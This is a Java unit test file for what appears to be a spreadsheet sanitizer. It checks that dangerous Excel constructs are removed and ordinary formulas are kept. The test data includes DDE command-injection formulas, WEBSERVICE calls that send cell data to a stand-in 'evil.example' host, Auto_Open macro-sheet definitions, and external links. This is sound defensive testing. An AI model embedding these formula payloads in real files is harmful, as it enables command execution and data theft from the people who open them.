package fr.bastide.airlock.internal.ooxml;

import static org.assertj.core.api.Assertions.assertThat;

import fr.bastide.airlock.Outcome;
import fr.bastide.airlock.Reason;
import fr.bastide.airlock.Threat;
import java.io.IOException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SheetDisarmTest {

  private static final String BOOK = "xl/workbook.xml";
  private static final String SHEET = "xl/worksheets/sheet1.xml";

  private static String row(String formula) {
    return "<row r=\"1\"><c r=\"A1\"><f>" + formula + "</f><v>42</v></c></row>";
  }

  private static Passing pass(OfficeFiles file) throws IOException {
    Passing passing = Passing.of("budget.xlsx", file.bytes(), "standard");
    assertThat(passing.faults()).isEmpty();
    return passing;
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "cmd|'/c evil'!A0",
        "WEBSERVICE(\"http://evil.example/?\"&amp;A1)",
        "_xlfn.WEBSERVICE(\"evil\")",
        "CALL(\"evil\",\"a\",\"J\")",
        "REGISTER(\"evil\")",
        "EXEC(\"evil\")",
        "RTD(\"evil\",,\"x\")",
        "1+sum( Exec (\"evil\"))",
        "[1]evil!A1",
        "'[evil.xlsx]Un'!A1",
        "'\\\\evil\\share\\[b.xlsx]Un'!A1",
        "[1]!evil",
        "HYPERLINK(\"file:///evil.exe\",\"x\")",
        "HYPERLINK(\"http://ok.example/\"&amp;evil)",
        "IMAGE(\"http://evil.example/p.png\")"
      })
  void dangerousFormulasLeaveTheirValue(String formula) throws IOException {
    Passing passing = pass(OfficeFiles.workbook(row(formula), "", ""));
    assertThat(passing.threats()).isNotEmpty();
    assertThat(passing.part(SHEET)).contains("<v>42</v>").doesNotContain("evil");
    assertThat(passing.part(SHEET)).doesNotContain("<f");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "SUM(A1:B2)*1.2",
        "VLOOKUP(A1,Tarifs[[#All],[Code]:[Prix|TTC]],2,FALSE)",
        "Tableau1[1]",
        "'Été 2024'!A1&amp;\"cmd|calc [1]x\"",
        "HYPERLINK(\"https://www.service-public.fr\",\"site\")",
        "{1,2;3,4}"
      })
  void usefulFormulasStay(String formula) throws IOException {
    Passing passing = pass(OfficeFiles.workbook(row(formula), "", ""));
    assertThat(passing.threats()).isEmpty();
    assertThat(passing.part(SHEET)).contains("<f>");
  }

  @Test
  void cellsThatShareADangerousFormulaLoseIt() throws IOException {
    String rows =
        "<row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:A2\" si=\"0\">EXEC(\"evil\")</f>"
            + "<v>1</v></c></row><row r=\"2\"><c r=\"A2\"><f t=\"shared\" si=\"0\"/><v>2</v></c>"
            + "<c r=\"B2\"><f t=\"shared\" ref=\"B2\" si=\"1\">A2</f><v>2</v></c></row>";
    String sheet = pass(OfficeFiles.workbook(rows, "", "")).part(SHEET);
    assertThat(sheet).doesNotContain("si=\"0\"").contains("si=\"1\"");
  }

  @Test
  void strictKeepsValuesAlone() throws IOException {
    byte[] file = OfficeFiles.workbook(row("SUM(A1:B2)"), "", "").bytes();
    Passing strict = Passing.of("a.xlsx", file, "strict");
    assertThat(strict.part(SHEET)).contains("42").doesNotContain("SUM");
  }

  @Test
  void macroSheetsGoAndNumbersOfSheetsFollow() throws IOException {
    OfficeFiles file =
        OfficeFiles.workbook(row("Macro1!A1"), "", "")
            .raw(
                BOOK,
                "rId7",
                "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
                "macrosheets/sheet1.xml",
                "")
            .xml("xl/macrosheets/sheet1.xml", "<macrosheet xmlns=\"" + OfficeFiles.X + "\"/>");
    file.xml(
        BOOK,
        "<workbook xmlns=\""
            + OfficeFiles.X
            + "\" xmlns:r=\""
            + OfficeFiles.R
            + "\"><bookViews>"
            + "<workbookView activeTab=\"1\"/></bookViews><sheets>"
            + "<sheet name=\"Macro1\" sheetId=\"1\" r:id=\"rId7\"/>"
            + "<sheet name=\"Un\" sheetId=\"2\" state=\"hidden\" r:id=\"rId1\"/></sheets>"
            + "<definedNames><definedName name=\"_xlnm.Auto_Open\">Macro1!$A$1</definedName>"
            + "<definedName name=\"f\" function=\"1\" xlm=\"1\">evil</definedName>"
            + "<definedName name=\"_xlnm.Print_Area\" localSheetId=\"1\">Un!$A$1</definedName>"
            + "<definedName name=\"loin\">[1]Un!$A$1</definedName>"
            + "</definedNames></workbook>");
    Passing passing = pass(file);
    assertThat(passing.threats()).contains(Threat.MACRO, Threat.EXTERNAL_CONTENT);
    assertThat(passing.all()).doesNotContain("acro1").doesNotContain("evil");
    assertThat(passing.part(BOOK))
        .contains("localSheetId=\"0\"", "Un!$A$1")
        .doesNotContain("Auto_Open")
        .doesNotContain("hidden")
        .doesNotContain("activeTab");
  }

  @Test
  void aBookOfMacrosAloneIsRefused() {
    OfficeFiles file = OfficeFiles.workbook("", "", "");
    file.xml(
        BOOK,
        "<workbook xmlns=\""
            + OfficeFiles.X
            + "\" xmlns:r=\""
            + OfficeFiles.R
            + "\"><sheets><sheet name=\"M\" sheetId=\"1\" r:id=\"rId7\"/></sheets></workbook>");
    assertThat(Passing.outcome("a.xlsx", file.bytes(), "standard"))
        .isEqualTo(new Outcome.Refused(Reason.FORBIDDEN_KIND, BOOK));
  }

  @Test
  void connectionsQueriesAndOtherBooksGo() throws IOException {
    Passing passing =
        pass(
            OfficeFiles.workbook(
                    row("1"),
                    "",
                    "<externalReferences><externalReference r:id=\"rId8\"/>"
                        + "</externalReferences>")
                .link(BOOK, "rId6", "connections", "xl/connections.xml")
                .xml(
                    "xl/connections.xml",
                    "<connections><connection><webPr url=\"evil\"/></connection></connections>")
                .link(BOOK, "rId8", "externalLink", "xl/externalLinks/externalLink1.xml")
                .xml(
                    "xl/externalLinks/externalLink1.xml",
                    "<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"evil\"/></externalLink>")
                .link(SHEET, "rId2", "queryTable", "xl/queryTables/q.xml")
                .xml("xl/queryTables/q.xml", "<queryTable connectionId=\"1\"/>"));
    assertThat(passing.threats()).contains(Threat.DATA_CONNECTION);
    assertThat(passing.all()).doesNotContain("evil").doesNotContain("onnection");
  }

  @Test
  void linksControlsObjectsAndRulesAreSifted() throws IOException {
    String after =
        "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>"
            + "WEBSERVICE(\"evil\")</formula></cfRule></conditionalFormatting><conditionalFormatting"
            + " sqref=\"A2\"><cfRule type=\"dataBar\" priority=\"2\"><dataBar><cfvo"
            + " type=\"formula\" val=\"[1]evil!A1\"/><cfvo type=\"max\"/></dataBar></cfRule>"
            + "</conditionalFormatting><dataValidations count=\"2\"><dataValidation type=\"list\""
            + " sqref=\"A1\"><formula1>evil|x!A1</formula1></dataValidation><dataValidation"
            + " type=\"list\" sqref=\"B1\">"
            + "<formula1>$C$1:$C$3</formula1></dataValidation></dataValidations><hyperlinks><hyperlink"
            + " ref=\"A1\" r:id=\"rId2\"/><hyperlink ref=\"A2\""
            + " location=\"Un!B1\"/></hyperlinks><pageSetup r:id=\"rId3\"/><oleObjects><oleObject"
            + " progId=\"evil\" shapeId=\"1\" r:id=\"rId4\"/></oleObjects><controls><control"
            + " shapeId=\"2\" r:id=\"rId5\"/></controls>";
    Passing passing =
        pass(
            OfficeFiles.workbook(row("1"), after, "")
                .outside(SHEET, "rId2", "hyperlink", "file:///evil")
                .link(SHEET, "rId3", "printerSettings", "xl/p.bin")
                .part("xl/p.bin", new byte[] {1})
                .link(SHEET, "rId4", "oleObject", "xl/embeddings/o.bin")
                .part("xl/embeddings/o.bin", new byte[] {1})
                .link(SHEET, "rId5", "control", "xl/activeX/c.xml")
                .xml("xl/activeX/c.xml", "<evil/>"));
    assertThat(passing.threats())
        .contains(
            Threat.FORMULA,
            Threat.DYNAMIC_DATA_EXCHANGE,
            Threat.DANGEROUS_LINK,
            Threat.EMBEDDED_OBJECT,
            Threat.ACTIVE_CONTROL);
    assertThat(passing.part(SHEET))
        .contains("$C$1:$C$3", "Un!B1", "<pageSetup/>")
        .doesNotContain("conditionalFormatting")
        .doesNotContain("oleObject")
        .doesNotContain("control")
        .doesNotContain("evil");
  }

  @Test
  void drawingsOfCommentsLoseTheirControls() throws IOException {
    String vml =
        "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\""
            + " xmlns:x=\"urn:schemas-microsoft-com:office:excel\">"
            + "<v:shape id=\"s1\"><x:ClientData ObjectType=\"Note\"><x:Row>0</x:Row>"
            + "</x:ClientData></v:shape><v:shape id=\"s2\"><x:ClientData ObjectType=\"Button\">"
            + "<x:FmlaMacro>evil</x:FmlaMacro></x:ClientData></v:shape></xml>";
    Passing passing =
        pass(
            OfficeFiles.workbook("", "<legacyDrawing r:id=\"rId2\"/>", "")
                .link(SHEET, "rId2", "vmlDrawing", "xl/drawings/v.vml")
                .part("xl/drawings/v.vml", vml.getBytes(java.nio.charset.StandardCharsets.UTF_8)));
    assertThat(passing.threats()).containsExactly(Threat.ACTIVE_CONTROL);
    assertThat(passing.part("xl/drawings/vmlDrawing1.vml")).contains("s1").doesNotContain("evil");
  }

  @Test
  void waysBetweenPartsAreRelative() {
    assertThat(PackageWriting.relative("xl/worksheets/sheet1.xml", "/xl/media/image1.png"))
        .isEqualTo("../media/image1.png");
    assertThat(PackageWriting.relative("", "/xl/workbook.xml")).isEqualTo("xl/workbook.xml");
  }
}
